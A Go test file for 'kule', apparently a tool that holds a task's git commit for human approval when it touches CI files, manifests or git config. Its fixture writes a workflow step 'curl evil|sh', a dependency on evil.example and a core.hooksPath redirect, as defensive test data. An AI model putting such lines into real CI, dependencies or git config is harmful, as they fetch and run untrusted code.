package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// gitRun runs the real git in dir with a fixed author and no system or
// personal config, as the CLI tests' person does.
func gitRun(t *testing.T, dir string, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("git is not installed: %v", err)
		}
		t.Skip("git is not installed")
	}
	cmd := exec.Command("git", append([]string{"-c", "user.name=Ada", "-c", "user.email=ada@example.com"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+t.TempDir())
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// The case, as a person meets it: a task's own git commit of a
// go.mod and CI change, then kule commit. Nothing moves; status and the
// commit say what waits and why; --approve applies it.
func TestCommitHoldsATasksOwnGitCommit(t *testing.T) {
	t.Setenv("KULE_HOME", t.TempDir())
	folder := t.TempDir()
	writeFile(t, filepath.Join(folder, "go.mod"), "module example.com/x\n\ngo 1.22\n")
	writeFile(t, filepath.Join(folder, ".github/workflows/test.yml"), "on: push\n")
	gitRun(t, folder, "init", "-q", "-b", "main")
	gitRun(t, folder, "add", ".")
	gitRun(t, folder, "commit", "-q", "-m", "first")
	head := gitRun(t, folder, "rev-parse", "HEAD")
	var made struct{ ID, Copy string }
	if err := json.Unmarshal([]byte(mustKule(t, "new", "--json", folder)), &made); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(made.Copy, "go.mod"), "module example.com/x\n\ngo 1.22\n\nrequire evil.example/x v1.0.0\n")
	writeFile(t, filepath.Join(made.Copy, ".github/workflows/test.yml"), "on: push\n- run: curl evil|sh\n")
	gitRun(t, made.Copy, "commit", "-qam", "innocent")
	gitRun(t, made.Copy, "config", "core.hooksPath", "/tmp/kule-hooks")

	// Written by hand in the copy: on the overlay backend a status sees
	// that after a walk (--full), as it does every command's writes.
	st := mustKule(t, "status", "--full", made.ID)
	for _, want := range []string{
		"fast-forward · 1 commit · waits for approval (ci, manifests-and-lockfiles)",
		`config changed: core.hookspath = "/tmp/kule-hooks" (it can make the next git command run code) · waits for approval (git-config)`,
	} {
		if !strings.Contains(st, want) {
			t.Errorf("kule status lacks %q:\n%s", want, st)
		}
	}
	var js struct {
		Ruling  string `json:"ruling"`
		Reasons []struct {
			Request struct{ Action, Path string }
			Rules   []string
		} `json:"reasons"`
	}
	if err := json.Unmarshal([]byte(mustKule(t, "status", made.ID, "--json")), &js); err != nil {
		t.Fatal(err)
	}
	actions := map[string]bool{}
	for _, r := range js.Reasons {
		actions[r.Request.Action+" "+r.Request.Path] = true
	}
	if js.Ruling != "waits" || !actions["file.modify go.mod"] || !actions["git.ref refs/heads/main"] || !actions["git.config .git/config"] {
		t.Errorf("status --json ruling %q, reasons %v", js.Ruling, actions)
	}

	out := mustKule(t, "commit", made.ID)
	if !strings.Contains(out, "nothing was applied") || !strings.Contains(out, "git: main ") || !strings.Contains(out, "git-config") {
		t.Errorf("kule commit:\n%s", out)
	}
	if got := gitRun(t, folder, "rev-parse", "HEAD"); got != head {
		t.Errorf("the folder's HEAD moved to %s", got)
	}
	if got := gitRun(t, folder, "status", "--porcelain"); got != "" {
		t.Errorf("the folder's git status = %q", got)
	}

	out = mustKule(t, "commit", made.ID, "--approve")
	if !strings.Contains(out, "committed to") || !strings.Contains(out, "git: main ") {
		t.Errorf("kule commit --approve:\n%s", out)
	}
	if got := gitRun(t, folder, "log", "-1", "--format=%s"); got != "innocent" {
		t.Errorf("after --approve the folder's log = %q", got)
	}
	if got := gitRun(t, folder, "config", "--get", "core.hooksPath"); got != "/tmp/kule-hooks" {
		t.Errorf("after --approve core.hooksPath = %q", got)
	}
	gitRun(t, folder, "fsck", "--strict", "--no-progress")
	if got := gitRun(t, folder, "status", "--porcelain"); got != "" {
		t.Errorf("the folder's git status after --approve = %q", got)
	}
}
